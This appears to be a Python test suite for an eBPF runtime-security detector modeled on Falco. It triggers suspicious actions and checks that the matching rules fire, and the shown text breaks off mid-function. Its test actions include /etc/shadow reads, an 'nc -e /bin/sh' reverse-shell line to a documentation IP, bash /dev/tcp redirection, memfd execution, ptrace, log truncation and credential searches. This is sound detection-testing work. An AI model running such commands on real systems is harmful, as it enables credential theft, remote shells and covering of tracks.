#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Live detection tests: the real `frc run` with its eBPF probe, real actions, real alerts.

Each scenario starts `frc run` with a rules file and JSON file output, performs actions
(event-generator style: read /etc/shadow from an untrusted binary, a shell spawned by a
program named like a web server, a symlink over a sensitive file, a binary run from
/dev/shm, memfd execution, ptrace attach, ...) and checks that the exact rule fires with the
right output fields, and that harmless actions fire nothing.

Attribution is exact, not by timing: every action runs with FRC_LIVE_ID=<unique id> in its
environment and the daemon appends proc.env to every alert's output_fields (append_output
extra_fields, as event-generator's suite does), so an alert belongs to an action iff its
proc.env carries that id. For "fires nothing", a sentinel action that does alert is run
afterwards: events are processed in order, so once the sentinel's alert is out, any alert of
the harmless actions would be out too.

Also: the stress test (a syscall storm: millions of cheap syscalls plus opens and execs; the
daemon keeps up or reports exactly how many events it dropped, never hangs or crashes, memory
stays bounded), the single-instance and privilege errors, clean stop on SIGINT/SIGTERM.

Needs root and kernel BTF; otherwise every case is reported as skipped with the reason.
Prints `RESULT: N passed, M failed, K skipped`.
"""
import functools
import os
import pty
import socket
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import uuid
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
import frc_live  # noqa: E402
from frc_live import (FRC, ROOT, UPSTREAM, Results, free_port,  # noqa: E402
                      live_unavailable, metrics, wait_for)

OURS = os.path.join(ROOT, "rules", "frc_rules.yaml")

R = Results(pass_detail=False)
ok, fail, skip, check = R.ok, R.fail, R.skip, R.check


class LiveDaemon(frc_live.Daemon):
    """frc_live.Daemon whose missing alerts are judged once it has stopped, by its exit
    summary: an alert that did not come is a failure when the daemon dropped no kernel
    event, and is reported as inconclusive (skipped, with the drop counts) when it dropped
    some, since the action's own events may be among them."""

    def __init__(self, *args, **kw):
        super().__init__(*args, **kw)
        self.missing = []       # (check name, what did not come)

    def miss(self, name, detail):
        self.missing.append((name, detail))
        print(f"INFO {name}: {detail}; judged once the daemon has stopped (drop counts)",
              flush=True)

    def stop(self, sig=signal.SIGTERM, timeout=None):
        rc = super().stop(sig, timeout)
        n = frc_live.summary_numbers(self.stderr())
        for name, detail in self.missing:
            if "dropped" not in n:
                fail(name, f"{detail} (no exit summary: kernel drops unknown)")
            elif n["dropped"]:
                skip(name, f"INCONCLUSIVE: {detail}, and the daemon dropped {n['dropped']} of "
                           f"{n['seen']} kernel events")
            else:
                fail(name, f"{detail} (no kernel event was dropped: {n['seen']} seen, "
                           f"{n['received']} received)")
        self.missing = []
        return rc


# a daemon of these scenarios: at most 3 minutes to start, 1 minute to stop
Daemon = functools.partial(LiveDaemon, ready_timeout=180, stop_timeout=60)


def act(aid, cmd, cwd=None, check_rc=False, **kw):
    """Run an action with its attribution id in the environment."""
    env = dict(os.environ, FRC_LIVE_ID=aid)
    r = subprocess.run(cmd, env=env, cwd=cwd, stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL, timeout=120, **kw)
    if check_rc and r.returncode != 0:
        raise RuntimeError(f"action {cmd} failed: {r.returncode}")
    return r.returncode


def new_id():
    return uuid.uuid4().hex[:12]


PERL_MEMFD = r'''
my $name = "frcpayload";
my $fd = syscall(319, $name, 0);
die "memfd_create: $!" if $fd < 0;
open(my $in, "<", "/bin/true") or die;
open(my $out, ">&=", $fd) or die;
binmode $in; binmode $out;
local $/; my $data = <$in>; print $out $data; close($in);
$out->flush;
exec {"/proc/self/fd/$fd"} "frcfileless";
die "exec: $!";
'''

PERL_PTRACE = r'''
my $pid = fork();
if ($pid == 0) { sleep 30; exit 0; }
my $r = syscall(101, 16, $pid, 0, 0);   # PTRACE_ATTACH
waitpid($pid, 0);
syscall(101, 17, $pid, 0, 0);           # PTRACE_DETACH
kill 9, $pid; waitpid($pid, 0);
exit($r == 0 ? 0 : 1);
'''

PERL_FINIT_MODULE = r'''
open(my $f, "<", "/etc/hostname") or die;
my $args = "frc_live=1";
my $r = syscall(313, fileno($f), $args, 0);    # finit_module: not a module, fails
exit 0;
'''

KMOD_PROBE_RULE = '''
- rule: frc live kmod probe
  desc: any module load attempt (live test of the probe's init_module/finit_module events)
  condition: evt.type in (init_module, finit_module)
  output: module load attempt (res=%evt.res uargs=%evt.arg.uargs)
  priority: NOTICE
  tags: [frc_live_test]
'''

PERL = shutil.which("perl") or "/usr/bin/perl"

# a non-blocking TCP connect to $ARGV[0]:$ARGV[1]: status 0 once the SYN is out
PERL_CONNECT = r'''
use Socket; use Fcntl;
socket(my $s, PF_INET, SOCK_STREAM, 0) or die "socket: $!";
fcntl($s, F_SETFL, fcntl($s, F_GETFL, 0) | O_NONBLOCK);
my $r = connect($s, pack_sockaddr_in($ARGV[1], inet_aton($ARGV[0])));
exit(($r || $!{EINPROGRESS}) ? 0 : 3);
'''

# socket(AF_PACKET, SOCK_RAW, 0)
PERL_PACKET_SOCKET = r'''
socket(my $s, 17, 3, 0) or exit 1;
exit 0;
'''

# socket(AF_INET, SOCK_DGRAM, 0): harmless
PERL_INET_SOCKET = r'''
socket(my $s, 2, 2, 0) or exit 1;
exit 0;
'''


def as_nobody():
    os.setgid(65534)
    os.setuid(65534)


PERL_TRACEME = r'''
my $r = syscall(101, 0, 0, 0, 0);       # PTRACE_TRACEME
exit($r == 0 ? 0 : 1);
'''


def field(a, key):
    return a.get("output_fields", {}).get(key)


def expect(d, name, aid, rule, fields, timeout=120):
    """The action `aid` raised `rule` with these output field values. (The bound only
    limits a failure's wait: the alert normally comes within milliseconds.) A missing
    alert is judged when the daemon stops (LiveDaemon: failed, or inconclusive if the
    daemon dropped events)."""
    got = d.wait_alert(aid, rule, timeout)
    if not got:
        mine = [a.get("rule") for a in d.alerts_of(aid)]
        d.miss(name, f"no '{rule}' alert within {timeout} s (alerts of this action: {mine})")
        return None
    a = got[0]
    bad = {k: (field(a, k), v) for k, v in fields.items()
           if (v(field(a, k)) if callable(v) else field(a, k) != v)}
    if bad:
        fail(name, f"output fields differ (got, expected): {bad}")
        return None
    if a.get("source") != "syscall" or ": " not in a.get("output", "") or \
            a.get("priority") not in ("Emergency", "Alert", "Critical", "Error", "Warning",
                                      "Notice", "Informational", "Debug"):
        fail(name, f"not a Falco alert: {a}")
        return None
    ok(name)
    return a


def expect_nothing(d, name, aids, sentinel_cmd, sentinel_rule, cwd):
    """None of the actions `aids` raised anything: checked once a later action did alert."""
    sid = new_id()
    act(sid, sentinel_cmd, cwd=cwd)
    if not d.wait_alert(sid, sentinel_rule, 120):
        d.miss(name, f"the sentinel action did not raise '{sentinel_rule}' within 120 s")
        return
    noisy = [(aid, a.get("rule")) for aid in aids for a in d.alerts_of(aid)]
    check(name, not noisy, f"harmless actions alerted: {noisy}")


# ------------------------------------------------------------------ scenarios

def scenario_upstream(tmp):
    work = os.path.join(tmp, "work")
    os.makedirs(work)
    reader = os.path.join(work, "frcread")
    shutil.copy("/bin/cat", reader)
    httpd = os.path.join(work, "httpd")
    shutil.copy("/bin/bash", httpd)
    shm = f"/dev/shm/frc-live-{os.getpid()}"
    d = Daemon(tmp, [UPSTREAM])
    try:
        if not check("upstream: frc run starts with falco_rules.yaml", d.wait_ready(),
                     d.stderr()[-2000:]):
            return
        # Read sensitive file untrusted
        aid = new_id()
        act(aid, [reader, "/etc/shadow"], check_rc=True)
        expect(d, "upstream: untrusted binary reads /etc/shadow -> Read sensitive file untrusted",
               aid, "Read sensitive file untrusted",
               {"fd.name": "/etc/shadow", "proc.name": "frcread", "proc.exepath": reader,
                "evt.type": "openat", "user.name": "root", "user.uid": 0,
                "proc.cmdline": "frcread /etc/shadow"})
        # Run shell untrusted: a shell spawned by a program named like a web server
        aid = new_id()
        act(aid, [httpd, "-c", "sh -c true; true"], check_rc=True)
        expect(d, "upstream: shell spawned by 'httpd' -> Run shell untrusted", aid,
               "Run shell untrusted",
               {"proc.name": "sh", "proc.pname": "httpd", "proc.cmdline": "sh -c true",
                "proc.pexepath": httpd, "evt.type": "execve"})
        # Create Symlink Over Sensitive Files
        aid = new_id()
        link = os.path.join(work, "shadow-link")
        act(aid, ["ln", "-s", "/etc/shadow", link], check_rc=True)
        expect(d, "upstream: symlink over /etc/shadow -> Create Symlink Over Sensitive Files",
               aid, "Create Symlink Over Sensitive Files",
               {"evt.arg.target": "/etc/shadow", "evt.arg.linkpath": link,
                "proc.name": "ln", "evt.type": "symlinkat"})
        # Create Hardlink Over Sensitive Files
        aid = new_id()
        hl = os.path.join(work, "shadow-hardlink")
        act(aid, ["ln", "/etc/shadow", hl])
        expect(d, "upstream: hardlink over /etc/shadow -> Create Hardlink Over Sensitive Files",
               aid, "Create Hardlink Over Sensitive Files",
               {"evt.arg.oldpath": "/etc/shadow", "evt.arg.newpath": hl, "proc.name": "ln"})
        # Execution from /dev/shm
        aid = new_id()
        shutil.copy("/bin/true", shm)
        try:
            act(aid, [shm], check_rc=True)
        finally:
            os.unlink(shm)
        expect(d, "upstream: binary run from /dev/shm -> Execution from /dev/shm", aid,
               "Execution from /dev/shm",
               {"proc.exepath": shm, "proc.name": os.path.basename(shm), "evt.type": "execve"})
        # Fileless execution via memfd_create
        aid = new_id()
        act(aid, ["perl", "-e", PERL_MEMFD], check_rc=True)
        expect(d, "upstream: memfd execution -> Fileless execution via memfd_create", aid,
               "Fileless execution via memfd_create",
               {"proc.exepath": "memfd:frcpayload", "evt.type": "execve"})
        # PTRACE attached to process
        aid = new_id()
        act(aid, ["perl", "-e", PERL_PTRACE], check_rc=True)
        expect(d, "upstream: ptrace(PTRACE_ATTACH) -> PTRACE attached to process", aid,
               "PTRACE attached to process", {"proc.name": "perl", "evt.type": "ptrace"})
        # PTRACE anti-debug attempt
        aid = new_id()
        act(aid, ["perl", "-e", PERL_TRACEME], check_rc=True)
        expect(d, "upstream: ptrace(PTRACE_TRACEME) -> PTRACE anti-debug attempt", aid,
               "PTRACE anti-debug attempt", {"proc.name": "perl", "evt.type": "ptrace"})
        # Search Private Keys or Passwords
        aid = new_id()
        act(aid, ["find", work, "-name", "id_rsa"], check_rc=True)
        expect(d, "upstream: find -name id_rsa -> Search Private Keys or Passwords", aid,
               "Search Private Keys or Passwords",
               {"proc.name": "find", "proc.cmdline": f"find {work} -name id_rsa"})
        # Find AWS Credentials
        aid = new_id()
        act(aid, ["find", work, "-path", "*/.aws/credentials"], check_rc=True)
        expect(d, "upstream: find .aws/credentials -> Find AWS Credentials", aid,
               "Find AWS Credentials", {"proc.name": "find"})
        # Clear Log Activities
        aid = new_id()
        log = f"/var/log/frc-live-{os.getpid()}.log"
        with open(log, "w") as f:
            f.write("x\n")
        try:
            act(aid, ["sh", "-c", f": > {log}"], check_rc=True)
        finally:
            os.unlink(log)
        expect(d, "upstream: log file truncated -> Clear Log Activities", aid,
               "Clear Log Activities", {"fd.name": log, "proc.name": "sh"})
        # Remove Bulk Data from Disk
        if shutil.which("shred"):
            aid = new_id()
            victim = os.path.join(work, "victim")
            with open(victim, "w") as f:
                f.write("secret\n")
            act(aid, ["shred", "-u", victim], check_rc=True)
            expect(d, "upstream: shred -> Remove Bulk Data from Disk", aid,
                   "Remove Bulk Data from Disk", {"proc.name": "shred", "evt.type": "execve"})
        else:
            skip("upstream: shred -> Remove Bulk Data from Disk", "shred is not installed")
        # Directory traversal monitored file read (first match wins over the shadow rule)
        aid = new_id()
        act(aid, [reader, "/etc/../etc/../etc/shadow"], check_rc=True)
        expect(d, "upstream: ../ path to /etc/shadow -> Directory traversal monitored file read",
               aid, "Directory traversal monitored file read",
               {"fd.name": "/etc/shadow", "fd.nameraw": "/etc/../etc/../etc/shadow",
                "proc.name": "frcread"})

        # Read sensitive file trusted after startup: a server program (named httpd) that
        # has been running for more than 5 s (proc.duration, from the events' own
        # timestamps: not proc_is_new) opens /etc/shadow itself
        aid = new_id()
        act(aid, [httpd, "-c", "sleep 6; exec 3</etc/shadow"], check_rc=True)
        expect(d, "upstream: httpd reads /etc/shadow after 6 s -> Read sensitive file trusted "
                  "after startup", aid, "Read sensitive file trusted after startup",
               {"fd.name": "/etc/shadow", "proc.name": "httpd", "proc.exepath": httpd,
                "evt.type": "openat", "user.name": "root"})
        # System user interactive: a system user (nobody) runs a program named login
        login = os.path.join(work, "login")
        shutil.copy("/bin/true", login)
        aid = new_id()
        act(aid, [login], check_rc=True, preexec_fn=as_nobody)
        expect(d, "upstream: nobody runs 'login' -> System user interactive", aid,
               "System user interactive",
               {"proc.name": "login", "proc.exepath": login, "user.name": "nobody",
                "user.uid": 65534, "evt.type": "execve"})
        # Disallowed SSH Connection Non Standard Port: a program named ssh connects out to a
        # public address on port 443 (non-blocking: EINPROGRESS is enough, nothing answers)
        sshc = os.path.join(work, "ssh")
        shutil.copy(PERL, sshc)
        aid = new_id()
        rc = act(aid, [sshc, "-e", PERL_CONNECT, "198.51.100.7", "443"])
        if rc == 0:
            expect(d, "upstream: 'ssh' connects to a public address on port 443 -> Disallowed "
                      "SSH Connection Non Standard Port", aid,
                   "Disallowed SSH Connection Non Standard Port",
                   # (fd.rport depends on whether the test runs in a container: the
                   # connection's name says the port)
                   {"evt.type": "connect", "fd.l4proto": "tcp",
                    "proc.exepath": sshc, "proc.name": "ssh",
                    "fd.name": lambda v: not (v or "").endswith("->198.51.100.7:443")})
        else:
            skip("upstream: 'ssh' connects to a public address on port 443",
                 "no route to a public address from this machine")

        # harmless actions fire nothing
        harmless = []
        for cmd in (["cat", "/etc/hostname"], ["ls", "-la", "/tmp"],
                    # grep_more is never_true by default (see scenario 'tuning')
                    ["grep", "-r", "-i", " pass ", work],
                    ["sh", "-c", f"echo hi > {work}/note; cat {work}/note"],
                    ["find", work, "-name", "note"], ["grep", "-c", "root", "/etc/passwd"],
                    ["ln", "-s", "/etc/hostname", f"{work}/hostname-link"],
                    ["mkdir", "-p", f"{work}/a/b"], ["cp", "/etc/hostname", f"{work}/a/b/h"],
                    ["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/9 || true"],
                    ["sh", "-c", "ls / | wc -l"], ["true"]):
            aid = new_id()
            harmless.append(aid)
            act(aid, cmd, cwd=work)
        expect_nothing(d, "upstream: harmless actions (cat, ls, find, grep, ln to a plain "
                          "file, cp, local connect, pipes) fire nothing", harmless,
                       [reader, "/etc/shadow"], "Read sensitive file untrusted", work)
    finally:
        rc = d.stop(signal.SIGINT)
        check("upstream: SIGINT stops frc run with status 0", rc == 0, f"rc={rc}")
        err = d.stderr()
        check("upstream: the summary is printed at exit",
              "Events detected:" in err and "Triggered rules by rule name:" in err
              and "Kernel events:" in err, err[-1500:])
        bad = [a for a in d.alerts() if "_bad_json" in a]
        check("upstream: every alert line is one JSON object", not bad, bad[:2])


class FakeContainer:
    """A cgroup named like a Docker container's (cpu controller: /docker/<64 hex>): a process
    moved into it before its execve is, for frc as for Falco's container plugin, in a
    container with that id (container.id = the first 12 hex digits), without a container
    engine. Skipped (with the reason) where no cgroup can be created."""

    def __init__(self):
        self.cid = uuid.uuid4().hex + uuid.uuid4().hex
        self.made = []
        self.procs = None
        for root in ("/sys/fs/cgroup/cpu", "/sys/fs/cgroup/cpu,cpuacct", "/sys/fs/cgroup"):
            if not os.path.exists(os.path.join(root, "cgroup.procs")):
                continue
            try:
                for d in (os.path.join(root, "docker"), os.path.join(root, "docker", self.cid)):
                    if not os.path.isdir(d):
                        os.mkdir(d)
                        self.made.append(d)
                self.procs = os.path.join(root, "docker", self.cid, "cgroup.procs")
                return
            except OSError as e:
                self.why = f"cannot create a cgroup below {root}: {e}"
                self.remove()
        self.why = getattr(self, "why", "no cgroup hierarchy with a cpu controller")

    def enter(self):
        """preexec_fn: move the child into the container's cgroup before it execs"""
        with open(self.procs, "w") as f:
            f.write(str(os.getpid()))

    def remove(self):
        for d in reversed(self.made):
            try:
                os.rmdir(d)
            except OSError:
                pass
        self.made = []


def act_tty(aid, argv, preexec):
    """Run argv with a pseudo-terminal as its controlling terminal (proc.tty != 0)."""
    env = dict(os.environ, FRC_LIVE_ID=aid)
    pid, fd = pty.fork()
    if pid == 0:
        try:
            preexec()
            os.execve(argv[0], argv, env)
        finally:
            os._exit(127)
    try:
        while True:
            try:
                if not os.read(fd, 4096):
                    break
            except OSError:
                break
    finally:
        os.close(fd)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])


def scenario_container(tmp):
    """The upstream container rules, in a container made of a cgroup (FakeContainer)."""
    c = FakeContainer()
    if not c.procs:
        skip("container: upstream container rules", c.why)
        return
    work = os.path.join(tmp, "work")
    os.makedirs(work)
    nc = os.path.join(work, "nc")
    shutil.copy("/bin/true", nc)
    runc = os.path.join(work, "runc")
    shutil.copy("/bin/bash", runc)
    short = c.cid[:12]
    lst = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    lst.bind(("127.0.0.1", 0))
    lst.listen(16)
    port = lst.getsockname()[1]
    d = Daemon(tmp, [UPSTREAM], fields=("proc.env", "container.id"))
    try:
        if not check("container: frc run starts with falco_rules.yaml", d.wait_ready(),
                     d.stderr()[-2000:]):
            return

        def incont(aid, cmd, **kw):
            return act(aid, cmd, preexec_fn=c.enter, **kw)

        aid = new_id()
        incont(aid, [nc, "-e", "/bin/sh", "198.51.100.7", "4444"], check_rc=True)
        expect(d, "container: nc -e -> Netcat Remote Code Execution in Container", aid,
               "Netcat Remote Code Execution in Container",
               {"container.id": short, "proc.name": "nc", "evt.type": "execve",
                "proc.cmdline": "nc -e /bin/sh 198.51.100.7 4444", "proc.exepath": nc})
        aid = new_id()
        incont(aid, ["perl", "-e", PERL_PACKET_SOCKET], check_rc=True)
        expect(d, "container: socket(AF_PACKET) -> Packet socket created in container", aid,
               "Packet socket created in container",
               {"container.id": short, "proc.name": "perl", "evt.type": "socket",
                "evt.args": lambda v: "AF_PACKET" not in (v or "")})
        aid = new_id()
        incont(aid, ["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; exec 1>&3"],
               check_rc=True)
        expect(d, "container: stdout onto a TCP socket -> Redirect STDOUT/STDIN to Network "
                  "Connection in Container", aid,
               "Redirect STDOUT/STDIN to Network Connection in Container",
               # a container without a known IP: its addresses are not local, so
               # (as in libsinsp) fd.lport is the server's port
               {"container.id": short, "proc.name": "bash", "fd.lport": port,
                "fd.sip": "127.0.0.1", "fd.type": "ipv4",
                "fd.name": lambda v: not (v or "").endswith(f"->127.0.0.1:{port}"),
                "evt.type": lambda v: v not in ("dup", "dup2", "dup3")})
        aid = new_id()
        incont(aid, ["perl", "-e", PERL_FINIT_MODULE], check_rc=True)
        expect(d, "container: finit_module as root -> Linux Kernel Module Injection Detected",
               aid, "Linux Kernel Module Injection Detected",
               {"container.id": short, "proc.name": "perl", "evt.type": "finit_module"})
        agent = os.path.join(work, "release_agent")
        aid = new_id()
        incont(aid, ["sh", "-c", f": > {agent}"], check_rc=True)
        expect(d, "container: write to a release_agent file -> Detect release_agent File "
                  "Container Escapes", aid, "Detect release_agent File Container Escapes",
               {"container.id": short, "fd.name": agent, "proc.name": "sh",
                "thread.cap_effective": lambda v: "CAP_SYS_ADMIN" not in (v or "")})
        aid = new_id()
        rc = act_tty(aid, [runc, "-c", "sh -c true; true"], c.enter)
        check("container: the terminal action ran", rc == 0, f"status {rc}")
        expect(d, "container: shell with a terminal below 'runc' -> Terminal shell in container",
               aid, "Terminal shell in container",
               {"container.id": short, "proc.name": "sh", "proc.pname": "runc",
                "proc.tty": lambda v: not v, "evt.type": "execve"})
        # System user interactive in a container: user.name comes from the container's
        # /etc/passwd (/proc/PID/root). The daemon is paused while a shell that stays runs
        # a short-lived 'login' as nobody, so that the process is gone when its events are
        # parsed (as under load): the lookup must go through a living process of the
        # container. (It once failed under load: no alert, user.name <NA>.)
        setpriv = shutil.which("setpriv")
        if setpriv:
            login = os.path.join(work, "login")
            shutil.copy("/bin/true", login)
            aid = new_id()
            d.p.send_signal(signal.SIGSTOP)
            try:
                sh = subprocess.Popen(
                    ["sh", "-c", f"{setpriv} --reuid=65534 --regid=65534 --clear-groups "
                     f"{login}; echo $?; read _"], env=dict(os.environ, FRC_LIVE_ID=aid),
                    stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                    preexec_fn=c.enter)
                status = sh.stdout.readline().strip()
            finally:
                d.p.send_signal(signal.SIGCONT)
            try:
                if check("container: 'login' run as nobody ran (daemon paused)",
                         status == b"0", f"status {status!r}"):
                    expect(d, "container: nobody runs a short-lived 'login', handled after it "
                              "exited -> System user interactive (user from the container's "
                              "passwd)", aid, "System user interactive",
                           {"container.id": short, "proc.name": "login", "proc.exepath": login,
                            "user.name": "nobody", "user.uid": 65534, "evt.type": "execve"})
            finally:
                sh.stdin.close()
                sh.wait(timeout=60)
        else:
            skip("container: nobody runs 'login' -> System user interactive",
                 "setpriv is not installed")

        harmless = []
        for cmd in (["cat", "/etc/hostname"], ["ls", "/"], [nc, "-z", "127.0.0.1", "9"],
                    ["perl", "-e", PERL_INET_SOCKET], ["sh", "-c", "exec 1>/dev/null; true"],
                    ["sh", "-c", f": > {work}/agent"],
                    ["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; exec 4>&3"]):
            aid = new_id()
            harmless.append(aid)
            incont(aid, cmd, cwd=work)
        expect_nothing(d, "container: harmless actions in the container (cat, ls, nc -z, an "
                          "inet socket, dup of a file, dup of a socket above fd 2) fire "
                          "nothing", harmless, [nc, "-e", "/bin/sh", "198.51.100.7", "4444"],
                       "Netcat Remote Code Execution in Container", work)
    finally:
        rc = d.stop(signal.SIGTERM)
        lst.close()
        c.remove()
        check("container: SIGTERM stops frc run with status 0", rc == 0, f"rc={rc}")


TUNING_RULES = '''
# A Falco user's tuning file, loaded after falco_rules.yaml.
# enable the broader password grep (a template macro, never_true upstream)
- macro: grep_more
  condition: (evt.num >= 0)
  override:
    condition: replace
# a known debugger is allowed to attach
- list: known_ptrace_binaries
  items: [frctracer]
  override:
    items: append
'''


def scenario_tuning(tmp):
    """Upstream rules tuned the way a Falco user does it: a rules file after
    falco_rules.yaml that overrides a template macro and appends to a list, and
    -o rules[]={disable: ...} in the configuration."""
    work = os.path.join(tmp, "work")
    os.makedirs(work)
    reader = os.path.join(work, "frcread")
    shutil.copy("/bin/cat", reader)
    tracer = os.path.join(work, "frctracer")
    shutil.copy(PERL, tracer)
    tuning = os.path.join(tmp, "tuning.yaml")
    with open(tuning, "w") as f:
        f.write(TUNING_RULES)
    d = Daemon(tmp, [UPSTREAM, tuning],
               extra=["-o", 'rules[]={"disable": {"rule": "Read sensitive file untrusted"}}'])
    try:
        if not check("tuning: frc run starts with falco_rules.yaml + a tuning file",
                     d.wait_ready(), d.stderr()[-2000:]):
            return
        aid = new_id()
        act(aid, ["grep", "-r", "-i", " pass ", work])
        expect(d, "tuning: grep_more enabled -> grep ' pass ' is Search Private Keys or "
                  "Passwords", aid, "Search Private Keys or Passwords",
               {"proc.name": "grep", "proc.cmdline": f"grep -r -i  pass  {work}"})
        quiet = []
        aid = new_id()
        quiet.append(aid)
        act(aid, [tracer, "-e", PERL_PTRACE], check_rc=True)
        aid = new_id()
        quiet.append(aid)
        act(aid, [reader, "/etc/shadow"], check_rc=True)
        expect_nothing(d, "tuning: an appended known_ptrace_binaries entry and a disabled rule "
                          "silence ptrace attach and the /etc/shadow read", quiet,
                       ["grep", "-r", "-i", " pass ", work], "Search Private Keys or Passwords",
                       work)
    finally:
        rc = d.stop(signal.SIGTERM)
        check("tuning: SIGTERM stops frc run with status 0", rc == 0, f"rc={rc}")


def scenario_ours(tmp):
    work = os.path.join(tmp, "work")
    os.makedirs(work)
    reader = os.path.join(work, "frcread")
    shutil.copy("/bin/cat", reader)
    nginx = os.path.join(work, "nginx")
    shutil.copy("/bin/bash", nginx)
    writer = os.path.join(work, "frcwrite")
    shutil.copy("/bin/dd", writer)
    kmod_rules = os.path.join(tmp, "kmod_probe.yaml")
    with open(kmod_rules, "w") as f:
        f.write(KMOD_PROBE_RULE)
    d = Daemon(tmp, [OURS, kmod_rules])
    try:
        if not check("ours: frc run starts with rules/frc_rules.yaml", d.wait_ready(),
                     d.stderr()[-2000:]):
            return
        aid = new_id()
        act(aid, [reader, "/etc/shadow"], check_rc=True)
        expect(d, "ours: untrusted binary reads /etc/shadow", aid,
               "frc Secret file read by unexpected program",
               {"fd.name": "/etc/shadow", "proc.name": "frcread", "proc.exepath": reader,
                "user.name": "root"})
        aid = new_id()
        act(aid, [nginx, "-c", "sh -c true; true"], check_rc=True)
        expect(d, "ours: shell spawned by 'nginx'", aid, "frc Shell spawned by network server",
               {"proc.name": "sh", "proc.pname": "nginx", "proc.cmdline": "sh -c true"})
        target = f"/usr/local/bin/frc-live-{os.getpid()}"
        aid = new_id()
        try:
            act(aid, [writer, "if=/dev/null", f"of={target}"], check_rc=True)
        finally:
            if os.path.exists(target):
                os.unlink(target)
        expect(d, "ours: write below /usr/local/bin", aid, "frc Write below binary directory",
               {"fd.name": target, "proc.name": "frcwrite"})
        target = f"/etc/frc-live-{os.getpid()}.conf"
        aid = new_id()
        try:
            act(aid, [writer, "if=/dev/null", f"of={target}"], check_rc=True)
        finally:
            if os.path.exists(target):
                os.unlink(target)
        expect(d, "ours: write below /etc", aid, "frc Write below etc",
               {"fd.name": target, "proc.name": "frcwrite"})
        aid = new_id()
        tbin = os.path.join(work, "dropped")
        shutil.copy("/bin/true", tbin)
        act(aid, [tbin], check_rc=True)
        expect(d, "ours: program run from /tmp", aid, "frc Program run from a temporary directory",
               {"proc.exepath": tbin, "proc.name": "dropped"})
        aid = new_id()
        shm = f"/dev/shm/frco-{os.getpid()}"
        shutil.copy("/bin/true", shm)
        try:
            act(aid, [shm], check_rc=True)
        finally:
            os.unlink(shm)
        expect(d, "ours: program run from /dev/shm", aid,
               "frc Program run from a temporary directory",
               {"proc.exepath": shm, "proc.name": os.path.basename(shm)})
        aid = new_id()
        act(aid, ["perl", "-e", PERL_MEMFD], check_rc=True)
        expect(d, "ours: memfd execution", aid, "frc Fileless execution from memory",
               {"proc.exepath": "memfd:frcpayload"})
        aid = new_id()
        act(aid, ["perl", "-e", PERL_PTRACE], check_rc=True)
        expect(d, "ours: ptrace attach", aid, "frc Process attached with ptrace",
               {"evt.arg.request": "PTRACE_ATTACH", "proc.name": "perl"})
        aid = new_id()
        log = f"/var/log/frc-live-{os.getpid()}.log"
        with open(log, "w") as f:
            f.write("x\n")
        try:
            act(aid, ["sh", "-c", f": > {log}"], check_rc=True)
        finally:
            os.unlink(log)
        expect(d, "ours: log file truncated", aid, "frc Log file cleared",
               {"fd.name": log, "proc.name": "sh"})
        aid = new_id()
        act(aid, ["find", work, "-name", "id_rsa"], check_rc=True)
        expect(d, "ours: credential search (find id_rsa)", aid, "frc Credential search",
               {"proc.name": "find", "proc.cmdline": f"find {work} -name id_rsa"})
        aid = new_id()
        act(aid, ["grep", "-r", "-i", "password", work])
        expect(d, "ours: credential search (grep -r password)", aid, "frc Credential search",
               {"proc.name": "grep"})
        aid = new_id()
        rc = act(aid, ["bash", "-c", "exec 3<>/dev/tcp/198.51.100.7/80"])
        if rc == 0:
            expect(d, "ours: bash /dev/tcp connection to a public address", aid,
                   "frc Outbound connection by unexpected program",
                   {"proc.name": "bash",
                    "fd.name": lambda v: not (v or "").endswith("->198.51.100.7:80")})
        else:
            skip("ours: bash /dev/tcp connection to a public address",
                 "no route to a public address from this machine")
        # no module can be loaded here, so the rule's success path is not exercised; the
        # probe side is: a failed finit_module reaches the rules with its arguments
        if not os.path.isdir(f"/lib/modules/{os.uname().release}"):
            skip("ours: kernel module loaded (successful load)", "no loadable module on this "
                 f"machine (/lib/modules/{os.uname().release} is absent)")
        aid = new_id()
        act(aid, ["perl", "-e", PERL_FINIT_MODULE])
        expect(d, "ours: finit_module attempt reaches the rules (res, fd, uargs)", aid,
               "frc live kmod probe",
               {"evt.arg.uargs": "frc_live=1",
                "evt.res": lambda v: v in (None, "SUCCESS")})

        harmless = []
        for cmd in (["cat", "/etc/hostname"], ["ls", "/usr/bin"], ["grep", "root", "/etc/passwd"],
                    ["find", work, "-name", "nothing"], ["sh", "-c", f"echo x > {work}/f"],
                    ["dd", "if=/dev/null", f"of={work}/g"], ["cat", "/etc/passwd"],
                    ["grep", "-i", "password", "/etc/login.defs"],
                    ["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/9 || true"],
                    ["ls", "-l", "/var/log"], ["id"]):
            aid = new_id()
            harmless.append(aid)
            act(aid, cmd, cwd="/")
        expect_nothing(d, "ours: harmless actions fire nothing", harmless,
                       [reader, "/etc/shadow"], "frc Secret file read by unexpected program", work)
    finally:
        rc = d.stop(signal.SIGTERM)
        check("ours: SIGTERM stops frc run with status 0", rc == 0, f"rc={rc}")


STORM_C = r'''
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
static void *nothing(void *arg)
{
	return arg;
}
int main(int argc, char **argv)
{
	long cheap = atol(argv[1]), opens = atol(argv[2]), execs = atol(argv[3]);
	long threads = atol(argv[5]);
	for (long i = 0; i < cheap; i++)
		syscall(SYS_getppid);
	for (long i = 0; i < opens; i++) {
		int fd = open(argv[4], O_RDONLY);
		if (fd >= 0)
			close(fd);
	}
	for (long i = 0; i < execs; i++) {
		pid_t p = fork();
		if (p == 0) {
			execl("/bin/true", "true", (char *)NULL);
			_exit(127);
		}
		waitpid(p, NULL, 0);
	}
	for (long i = 0; i < threads; i++) {
		pthread_t t;
		if (pthread_create(&t, NULL, nothing, NULL) == 0)
			pthread_join(t, NULL);
	}
	return 0;
}
'''


def prom(port):
    """The daemon's Prometheus metrics as {name: value} (labels dropped, first sample)."""
    return metrics(port, labels=False)


def rss_kb(pid):
    try:
